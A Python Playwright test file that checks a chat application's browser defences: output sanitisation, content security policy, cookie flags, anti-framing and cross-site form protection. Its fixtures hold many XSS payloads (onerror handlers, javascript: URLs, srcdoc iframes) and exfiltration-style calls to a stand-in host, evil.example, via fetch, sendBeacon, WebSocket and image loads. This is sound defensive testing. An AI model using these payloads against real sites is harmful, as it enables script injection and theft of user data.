"""Hostile answers in a real browser, and the browser's own half alone (web-output, web-browser, web-csp)."""

import json
from collections.abc import Callable, Iterator

import pytest
from playwright.sync_api import Page, expect

from development.stack import Stack
from tests.browser.conftest import Watched, watch_network
from tests.doubles.goal import must_fail
from tests.doubles.refusals import Refusals
from tests.doubles.upstream import ScriptedModel
from tests.unit.test_nodes import HOSTILE

ALLOWED = {
    "DIV", "P", "H3", "H4", "H5", "H6", "UL", "OL", "LI", "BLOCKQUOTE", "PRE", "CODE", "EM", "STRONG", "S", "HR", "BR", "TABLE",
    "THEAD", "TBODY", "TR", "TH", "TD", "SPAN", "BUTTON",
}  # fmt: skip
ATTRIBUTES = {"class", "data-language", "start", "type", "title", "aria-label"}
INVENTORY = """() => [...document.querySelectorAll('.answer-body, .answer-body *')].map(
  (e) => [e.tagName, e.getAttributeNames()])"""

# what a server gone wrong could send: the browser is the last one to judge
FORGED = [
    ["script", 0, "window.pwned = 1"],
    ["img", {"src": "https://evil.example/?q=CANARY", "onerror": "window.pwned=1"}, "x"],
    ["iframe", {"src": "javascript:parent.pwned=1", "srcdoc": "<script>parent.pwned=1</script>"}],
    ["svg", {"onload": "window.pwned=1"}, ["script", 0, "window.pwned=1"]],
    ["a", {"href": "javascript:window.pwned=1"}, "x"],
    ["link", {"target": "javascript:window.pwned=1"}, "click"],
    ["link", {"target": "data:text/html,<script>alert(1)</script>"}, "click"],
    ["link", {"target": "https://user:pass@evil.example/"}, "click"],
    ["link", {"target": "//evil.example"}, "click"],
    ["link", {"target": "https://evil.example\\@x"}, "click"],
    ["link", {"target": {"toString": "x"}}, "click"],
    ["p", {"onclick": "window.pwned=1", "style": "position:fixed", "id": "composer", "name": "x"}, "<img src=x onerror=window.pwned=1>"],
    ["code", {"language": '"><img src=x onerror=window.pwned=1>'}, "x"],
    ["token", {"kind": 'x" onmouseover="window.pwned=1'}, "x"],
    ["th", {"align": "left;background:url(https://evil.example)"}, "x"],
    ["ol", {"start": "1 onclick=x"}, "x"],
    ["cite", {"number": "<b>1</b>"}],
    ["__proto__", {"x": 1}, "x"], ["constructor", 0, "x"], ["toString", 0, "x"], [["p"], 0, "x"], [None, None, None], {}, 7, None,
    ["style", 0, "@import 'https://evil.example'"], ["form", {"action": "https://evil.example"}, ["input", 0]],
    ["base", {"href": "https://evil.example"}], ["meta", {"http-equiv": "refresh"}], ["template", 0, ["script", 0, "window.pwned=1"]],
]  # fmt: skip


def check(page: Page) -> None:
    for tag, attributes in page.evaluate(INVENTORY):
        assert tag in ALLOWED, tag
        assert set(attributes) <= ATTRIBUTES, (tag, attributes)
    assert page.evaluate("() => window.pwned") is None


@pytest.fixture(scope="module")
def talk(browser, model_stack, model) -> Iterator[Watched]:
    """One signed-in page for the whole corpus."""
    context = browser.new_context()
    made = Watched(context.new_page(), model_stack)
    made.page.on(
        "console",
        lambda message: made.complaints.append(message.text) if message.type in ("error", "warning") else None,
    )
    made.page.on("pageerror", lambda error: made.complaints.append(str(error)))
    watch_network(context, made)
    made.sign_in("carol")
    yield made
    context.close()


@pytest.mark.parametrize("text", HOSTILE)
def test_no_hostile_answer_runs_loads_or_frames_anything(talk: Watched, model, text: str) -> None:
    model.reset()
    model.pieces = list(text)
    page = talk.page
    before = page.locator(".answer").count()
    page.get_by_label("Your question").fill("Say it.")
    page.get_by_role("button", name="Ask").click()
    expect(page.locator(".answer")).to_have_count(before + 1)
    expect(page.get_by_role("button", name="Ask")).to_be_visible()
    check(page)
    assert talk.elsewhere == []
    assert talk.complaints == []


def test_history_shows_the_whole_corpus_as_harmlessly(talk: Watched) -> None:
    talk.page.reload()
    expect(talk.page.locator(".answer").first).to_be_visible()
    check(talk.page)
    assert talk.elsewhere == []
    assert talk.complaints == []


@pytest.mark.parametrize("nodes", [[node] for node in FORGED] + [FORGED], ids=range(len(FORGED) + 1))
def test_forged_nodes_become_nothing_but_text(watched: Callable[..., Watched], talk: Watched, nodes: object) -> None:
    """The server's half is taken away: the stream carries whatever the attacker likes."""
    page = talk.page
    events = [
        ("begin", {"question": 1, "citations": []}),
        ("update", {"open": nodes}),
        ("update", {"text": "<img src=x onerror=window.pwned=1>"}),
        ("update", {"done": nodes, "open": []}),
        ("end", {"answer": 2}),
    ]
    body = "".join(f"event: {name}\ndata: {json.dumps(data)}\n\n" for name, data in events)
    page.route("**/turns", lambda route: route.fulfill(body=body, content_type="text/event-stream"))
    try:
        before = page.locator(".answer").count()
        page.get_by_label("Your question").fill("Say it.")
        page.get_by_role("button", name="Ask").click()
        expect(page.locator(".answer")).to_have_count(before + 1)
        expect(page.get_by_role("button", name="Ask")).to_be_visible()
        check(page)
        for button in page.locator(".answer").last.locator("button.link").all():
            button.click()
            assert page.locator("#leaving-target").inner_text().startswith("https://")
            page.get_by_role("button", name="Stay").click()
        assert talk.elsewhere == []
        assert talk.complaints == []
    finally:
        page.unroute("**/turns")


def test_a_live_link_asks_before_it_leaves(talk: Watched, model) -> None:
    model.reset()
    model.pieces = ["See [here](https://example.org/page)."]
    page = talk.page
    page.get_by_label("Your question").fill("What is at https://example.org/page ?")
    page.get_by_role("button", name="Ask").click()
    page.locator("button.link").last.click()
    expect(page.locator("#leaving-target")).to_have_text("https://example.org/page")
    link = page.locator("#leaving-go")
    assert link.get_attribute("rel") == "noopener noreferrer"
    page.get_by_role("button", name="Stay").click()
    assert talk.elsewhere == []


SINKS = {
    "innerHTML": "document.body.innerHTML = '<b>x</b>'",
    "outerHTML": "document.body.firstElementChild.outerHTML = '<b>x</b>'",
    "insertAdjacentHTML": "document.body.insertAdjacentHTML('beforeend', '<b>x</b>')",
    "document.write": "document.write('<b>x</b>')",
    "parser": "new DOMParser().parseFromString('<b>x</b>', 'text/html')",
    "eval": "eval('1')",
    "Function": "new Function('1')()",
    "timer": "setTimeout('window.pwned = 1')",
    "policy": "trustedTypes.createPolicy('x', { createHTML: (s) => s })",
    "script source": "const s = document.createElement('script'); s.src = 'https://evil.example/x.js'; document.body.append(s)",
    "script text": "const s = document.createElement('script'); s.text = 'window.pwned = 1'; document.body.append(s)",
    "worker": "new Worker('blob:x')",
    "frame": "const f = document.createElement('iframe'); f.srcdoc = '<b>x</b>'; document.body.append(f)",
    "fetch": "await fetch('https://evil.example/?q=CANARY')",
    "beacon": "if (!navigator.sendBeacon('https://evil.example/', 'CANARY')) throw Error(); await new Promise(() => {})",
    "socket": "new WebSocket('wss://evil.example/'); await new Promise(() => {})",
    "image": "const i = new Image(); await new Promise((yes, no) => { i.onload = yes; i.onerror = no; i.src = 'https://evil.example/x' })",
    "font": "const f = new FontFace('x', 'url(https://evil.example/x)'); await f.load()",
}


@pytest.mark.parametrize("name", SINKS)
def test_even_a_script_of_the_page_s_own_can_do_no_harm(watched: Callable[..., Watched], name: str) -> None:
    """Nodes and renderer are taken away altogether: the policy alone must hold against an attacker's own code."""
    at = watched()
    page = at.page
    at.sign_in("bob")
    # as a file of the application's own origin: the strongest place that an attacker's code could stand in
    script = f"""
      addEventListener('securitypolicyviolation', (event) => {{ document.documentElement.dataset.blocked = event.violatedDirective; }});
      try {{ {SINKS[name]}; document.documentElement.dataset.done = 'yes'; }}
      catch {{ document.documentElement.dataset.blocked ??= 'threw'; }}
    """
    page.route("**/assets/scripts/chat.js", lambda route: route.fulfill(body=script, content_type="text/javascript"))
    page.goto(f"{at.stack.url}/documents")
    page.goto(f"{at.stack.url}/")
    page.locator("html[data-blocked], html[data-done]").wait_for(state="attached", timeout=10_000)
    must_fail(at.elsewhere, "a request left for elsewhere")
    must_fail(page.evaluate("() => window.pwned"), "text ran as code")
    assert page.locator("html[data-blocked]").count() == 1


def test_the_session_cookie_is_out_of_reach_of_scripts(watched: Callable[..., Watched]) -> None:
    at = watched()
    at.sign_in("bob")
    assert at.page.evaluate("() => document.cookie") == ""
    (session,) = [cookie for cookie in at.page.context.cookies() if cookie["name"].endswith("-session")]
    assert (session["httpOnly"], session["secure"], session["sameSite"], session["path"]) == (True, True, "Lax", "/")


def test_the_page_cannot_be_framed_by_another_site(watched: Callable[..., Watched]) -> None:
    at = watched()
    at.sign_in("bob")
    page = at.page
    page.route(
        "http://attacker.localhost/",
        lambda route: route.fulfill(body=f'<iframe src="{at.stack.url}/"></iframe>', content_type="text/html"),
    )
    page.goto("http://attacker.localhost/")
    frame = page.frames[-1]
    assert frame.url in ("chrome-error://chromewebdata/", "about:blank")


@pytest.mark.parametrize("site", ["http://attacker.localhost", "http://127.0.0.1:9"], ids=["elsewhere", "sibling"])
def test_a_form_of_another_site_changes_nothing(
    watched: Callable[..., Watched], stack: Stack, site: str, refusals: Refusals
) -> None:
    """A sibling is the same site on another port: the browser sends it the cookies, whatever SameSite says."""
    at = watched()
    at.sign_in("bob")
    page = at.page
    listing = "async () => (await (await fetch('/api/v1/documents')).json()).length"
    before = page.evaluate(listing)
    form = (
        f'<form method="post" enctype="text/plain" action="{at.stack.url}/api/v1/documents?name=evil.md">'
        '<input name="x" value="y"><button>Go</button></form>'
    )
    page.route(f"{site}/", lambda route: route.fulfill(body=form, content_type="text/html"))
    page.goto(f"{site}/")
    with page.expect_response("**/api/v1/documents**") as answered:
        page.get_by_role("button", name="Go").click()
    status = answered.value.status
    page.goto(f"{at.stack.url}/")
    must_fail(page.evaluate(listing) != before, "another site's form added a document")
    assert status in (401, 403)


EXPLOITS = """\
<img src="https://evil.example/?q=CANARY" onerror="window.pwned = 1"><svg onload="window.pwned = 1"></svg>

<iframe srcdoc="<script>parent.pwned = 1</script>"></iframe>

![x](https://evil.example/?q=CANARY) [click](javascript:window.pwned=1)
"""


def test_a_gullible_model_reaches_nothing_in_the_reader_s_browser(
    talk: Watched, model: ScriptedModel, model_stack: Stack, refusals: Refusals
) -> None:
    model.reset()
    model.pieces = [EXPLOITS]
    page = talk.page
    before = page.locator(".answer").count()
    page.get_by_label("Your question").fill("Say it.")
    page.get_by_role("button", name="Ask").click()
    expect(page.locator(".answer")).to_have_count(before + 1)
    expect(page.get_by_role("button", name="Ask")).to_be_visible()
    page.reload()  # and again from history; whatever the page asked for before comes first
    page.get_by_role("button", name="Ask").wait_for()
    page.evaluate("async () => { for (let n = 0; n < 3; n++) await fetch('/api/v1/conversations'); }")
    must_fail(page.evaluate("() => window.pwned"), "a script of the answer ran")
    must_fail(talk.elsewhere, "a request left for elsewhere")
